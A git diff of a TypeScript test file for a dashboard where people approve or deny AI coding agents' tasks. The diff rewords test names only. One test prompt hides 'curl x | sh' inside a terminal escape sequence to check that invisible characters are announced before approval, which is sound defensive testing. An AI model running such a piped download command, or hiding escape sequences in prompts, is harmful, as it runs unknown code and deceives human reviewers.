@@ -28,7 +28,7 @@ const openWaitingDecisions = (): Bench =>
     1,
   );
 
-describe('approving takes two keys, and binds what was seen', () => {
+describe('approving takes two keys, and binds what was shown', () => {
   it('a asks, y approves with the hash', () => {
     const dash = openWaitingDecisions().keys('a');
     assert.match(dash.state().armed?.question ?? '', /Approve d-1 and start claude on t-1\?/);
@@ -39,7 +39,7 @@ describe('approving takes two keys, and binds what was seen', () => {
     ]);
   });
 
-  it("a stranger's task without a sandbox takes a third, spelt-out key: its id", () => {
+  it("an untrusted author's task without a sandbox takes a third, typed confirmation: its id", () => {
     const stranger = { stranger: "the issue's author codehost:eve is not owner, member or collaborator" };
     const problem = { code: 'tool_missing', message: 'bwrap is not on PATH', hint: null } as const;
     const decisions = [decisionRow(1, stranger)];
@@ -67,7 +67,7 @@ describe('approving takes two keys, and binds what was seen', () => {
     assert.equal(known.keys('a').state().armed, null, 'and nobody else has a third');
   });
 
-  it('what does not show in a prompt is said by the preview and again by each question', () => {
+  it('invisible characters in a prompt are announced by the preview and again by each question', () => {
     const prompt = 'Fix it\u001b]0;curl x | sh\u0007\nnow\u200b';
     const decisions = [decisionRow(1, { unseen: 3 })];
     const dash = showDecision(bench().data({ decisions, tasks: [taskRow(1)] }), 1, {}, prompt);
@@ -87,7 +87,7 @@ describe('approving takes two keys, and binds what was seen', () => {
     );
   });
 
-  it('what does not show in a patch is said before a promotion, and every line of it is on the screen', () => {
+  it('invisible characters in a patch are announced before a promotion, and every line of it is on the screen', () => {
     const patch = [
       'diff --git a/a b/a',
       '--- a/a',
@@ -115,7 +115,7 @@ describe('approving takes two keys, and binds what was seen', () => {
     );
   });
 
-  it('letters of a Cyrillic or Greek layout count as the keys that they are on', () => {
+  it('letters of a Cyrillic or Greek layout act as the keys that they are on', () => {
     const approved = [{ operation: 'decision.approve', input: { id: 'd-1', hash: decisionRow(1).hash } }];
     for (const [ask, answer] of ['фн', 'αυ'] as const)
       assert.deepEqual(openWaitingDecisions().keys(ask!, answer!).calls(), approved, ask);
@@ -139,7 +139,7 @@ describe('approving takes two keys, and binds what was seen', () => {
     }
   });
 
-  it('a letter of another layout stays text in a form, and a key of a person who has bound it', () => {
+  it('a letter of another layout stays text in a form, and a key that a person has bound', () => {
     const typed = openWaitingDecisions().keys('/', 'ф', 'н', 'α');
     assert.match(screenOf(typed.state()).join('\n'), /фнα/);
     const own = openWaitingDecisions();
@@ -164,7 +164,7 @@ describe('approving takes two keys, and binds what was seen', () => {
     assert.equal(openWaitingDecisions().keys('1').state().message, null);
   });
 
-  it('every other key leaves it waiting', () => {
+  it('every other key leaves the decision pending', () => {
     for (const key of ['a', 'n', 'enter', 'esc', 'j', 'Y', 'q', 'space', '1', 'd']) {
       const dash = openWaitingDecisions().keys('a', key);
       assert.equal(dash.state().armed, null, key);
@@ -172,7 +172,7 @@ describe('approving takes two keys, and binds what was seen', () => {
     }
   });
 
-  it('a is refused until what would run was fetched, and says so', () => {
+  it('a is refused until the plan was loaded, and says so', () => {
     const dash = bench()
       .data({ decisions: [decisionRow(1)] })
       .keys('a', 'y');
@@ -187,7 +187,7 @@ describe('approving takes two keys, and binds what was seen', () => {
     assert.equal(dash.state().armed, null);
   });
 
-  it('the second key does not count faster than a hand presses it, and the question stays', () => {
+  it('a second key faster than a hand is ignored, and the question stays', () => {
     const dash = openWaitingDecisions();
     const at = dash.state().now + 1000;
     dash.send({ type: 'keys', keys: ['a'], at });
@@ -265,14 +265,14 @@ describe('approving takes two keys, and binds what was seen', () => {
     assert.equal(dash.state().armed?.subject.id, 'd-2');
   });
 
-  it('one answer under way is not followed by a second', () => {
+  it('a second answer is not sent while one is in progress', () => {
     const dash = openWaitingDecisions().keys('a', 'y', 'a', 'y');
     assert.equal(dash.calls().length, 1);
   });
 });
 
-describe('denying', () => {
-  it('d y denies at once, d r asks for a reason', () => {
+describe('denying a decision', () => {
+  it('d y denies immediately, d r asks for a reason', () => {
     assert.deepEqual(openWaitingDecisions().keys('d', 'y').calls(), [
       { operation: 'decision.deny', input: { id: 'd-1', reason: 'denied in the dashboard' } },
     ]);
@@ -280,7 +280,7 @@ describe('denying', () => {
     assert.deepEqual(dash.calls(), [{ operation: 'decision.deny', input: { id: 'd-1', reason: 'no y' } }]);
   });
 
-  it('without a reason it goes on waiting, and the typed text never becomes keys', () => {
+  it('an empty reason keeps waiting, and the typed text never becomes keys', () => {
     const dash = openWaitingDecisions().keys('d', 'r', 'enter', 'a', 'y', 'esc');
     assert.deepEqual(dash.calls(), []);
     assert.equal(dash.state().overlay, null);
@@ -303,7 +303,7 @@ describe('editing the prompt', () => {
     return dash.send({ type: 'edited', effect: effect as never, text });
   };
 
-  it('another text makes another decision', () => {
+  it('another text creates another decision', () => {
     assert.deepEqual(edited('Something else\n').calls(), [
       {
         operation: 'decision.edit',
@@ -318,13 +318,13 @@ describe('editing the prompt', () => {
   });
 });
 
-describe('tasks', () => {
+describe('actions on tasks', () => {
   const tasks = (more: Parameters<typeof taskRow>[1] = {}): Bench =>
     bench()
       .keys('1')
       .data({ tasks: [taskRow(1, more)] });
 
-  it('r says what it spends, y runs exactly that', () => {
+  it('r shows the cost, y runs exactly that', () => {
     const dash = showTask(tasks(), 1).keys('r');
     assert.match(
       dash.state().armed?.question ?? '',
@@ -340,7 +340,7 @@ describe('tasks', () => {
     assert.deepEqual(dash.calls(), [{ operation: 'task.retry', input: { id: 't-1', hash: 'f'.repeat(64) } }]);
   });
 
-  it('a task that its ledger holds back is started with a key of its own', () => {
+  it('a task that its ledger holds is started with a separate key', () => {
     const problem = { code: 'ledger_gate', message: '2 items of LEDGER.md are open', hint: null } as const;
     const dash = showTask(tasks(), 1, { problem }).keys('r');
     assert.match(dash.state().armed?.question ?? '', /HELD BY ITS LEDGER: 2 items of LEDGER.md are open/);
@@ -358,7 +358,7 @@ describe('tasks', () => {
     assert.deepEqual(dash.calls(), []);
   });
 
-  it('what cannot be done says why', () => {
+  it('an impossible action gives the reason', () => {
     const running = showTask(tasks({ status: 'running', session_id: 's-1' }), 1);
     assert.match(running.keys('r').state().message?.text ?? '', /t-1 is running already/);
     const done = showTask(tasks({ status: 'done' }), 1);
@@ -396,7 +396,7 @@ describe('tasks', () => {
     return dash.send({ type: 'edited', effect: effect as never, text });
   };
 
-  it('A gives the task to the agent that is chosen', () => {
+  it('A assigns the task to the chosen agent', () => {
     const dash = tasks().data({ choices }).keys('A', 'j', 'enter');
     assert.deepEqual(dash.calls(), [{ operation: 'task.assign', input: { id: 't-1', agent: 'codex' } }]);
   });
@@ -440,13 +440,13 @@ describe('tasks', () => {
   });
 });
 
-describe('workers', () => {
+describe('actions on workers', () => {
   const ended = (more: Parameters<typeof sessionRow>[1] = {}): Bench =>
     bench()
       .keys('4')
       .data({ sessions: [sessionRow(1, more)], tasks: [taskRow(1, { session_id: 's-1' })] });
 
-  it('p asks, m merges and b rebases what was seen', () => {
+  it('p asks, m merges and b rebases the shown head', () => {
     const input = { session: 's-1', base: 'main', head: 'c'.repeat(40) };
     const shown = (): Bench => showEvidence(showWork(ended(), 1), 1);
     assert.deepEqual(shown().keys('p', 'm').calls(), [
@@ -458,7 +458,7 @@ describe('workers', () => {
     assert.deepEqual(shown().keys('p', 'p').calls(), []);
   });
 
-  it('p says why not: running, conflicts, a dirty checkout, nothing to merge', () => {
+  it('p gives the reason for a refusal: running, conflicts, a dirty checkout, nothing to merge', () => {
     const reason = (dash: Bench): string => dash.keys('p').state().message?.text ?? '';
     assert.match(reason(ended({ state: 'running' })), /still running/);
     assert.match(reason(ended({ commits: 0 })), /no commits/);
@@ -483,7 +483,7 @@ describe('workers', () => {
     assert.deepEqual(dash.keys('y').calls(), [{ operation: 'task.cancel', input: { id: 't-1' } }]);
   });
 
-  it('r on a failed run runs its task again, once what would run is known', () => {
+  it('r on a failed run runs its task again, once the plan is known', () => {
     const dash = bench()
       .keys('4')
       .data({
@@ -532,7 +532,7 @@ describe('workers', () => {
     assert.deepEqual(run?.do === 'command' ? run.words : null, ['worktree', 'pr', 's-1', '--yes']);
   });
 
-  it('o lets one of several remotes be chosen, and pushes nowhere before that', () => {
+  it('o lets a person choose one of several remotes, and pushes nowhere before that', () => {
     const remotes = [
       { name: 'fork', url: 'git@github.com:me/r.git' },
       { name: 'upstream', url: 'git@gitlab.com:o/r.git' },
@@ -561,7 +561,7 @@ describe('workers', () => {
 });
 
 describe('while the engine is away', () => {
-  it('actions say why not, moving and reading go on, u starts it', () => {
+  it('actions say why not, moving and reading continue, u starts it', () => {
     const dash = openWaitingDecisions().send({
       type: 'link',
       link: { phase: 'lost', reason: 'gone', since: 0 },
@@ -585,7 +585,7 @@ describe('while the engine is away', () => {
 describe('the bell', () => {
   const arrival = { type: 'data', at: 0, change: { decisions: [decisionRow(7)] } } as const;
 
-  it('rings for a decision that arrives, and only where it was asked for', () => {
+  it('the bell rings for a new decision, and only where it is switched on', () => {
     const { state } = bench();
     assert.deepEqual(reduceState(state(), arrival).effects, []);
     assert.deepEqual(
@@ -594,7 +594,7 @@ describe('the bell', () => {
     );
   });
 
-  it('does not ring for what was there, or was decided', () => {
+  it('the bell does not ring for existing or decided ones', () => {
     const state = {
       ...bench()
         .data({ decisions: [decisionRow(7)] })
@@ -610,7 +610,7 @@ describe('the bell', () => {
 });
 
 describe('the keymap', () => {
-  it('gives a key one meaning in one place', () => {
+  it('the keymap gives a key one meaning in one place', () => {
     for (const view of ['list', 'full'] as const) {
       for (const focus of PANE_IDS) {
         const here = KEYMAP.filter(
@@ -622,7 +622,7 @@ describe('the keymap', () => {
     }
   });
 
-  it('lets no first key change anything in the engine but that a message has been read', () => {
+  it('no first key changes anything in the engine except marking a message as read', () => {
     const called = new Set<string>();
     for (const focus of PANE_IDS) {
       for (const [id, status] of (['open', 'assigned', 'running', 'done', 'failed'] as const).entries()) {
@@ -653,7 +653,7 @@ describe('the keymap', () => {
     assert.deepEqual([...called], ['worktree.pr', 'msg.ack']);
   });
 
-  it('confirms with a key that is not the first one, and help tells the keys that are asked for', () => {
+  it('the keymap confirms with a different key than the first one, and help lists the confirmation keys', () => {
     for (const { id, ask, confirm, keys } of KEYMAP) {
       assert.equal(ask === undefined, confirm === undefined, id);
       assert.ok(!confirm?.some((key) => keys.includes(key)), id);
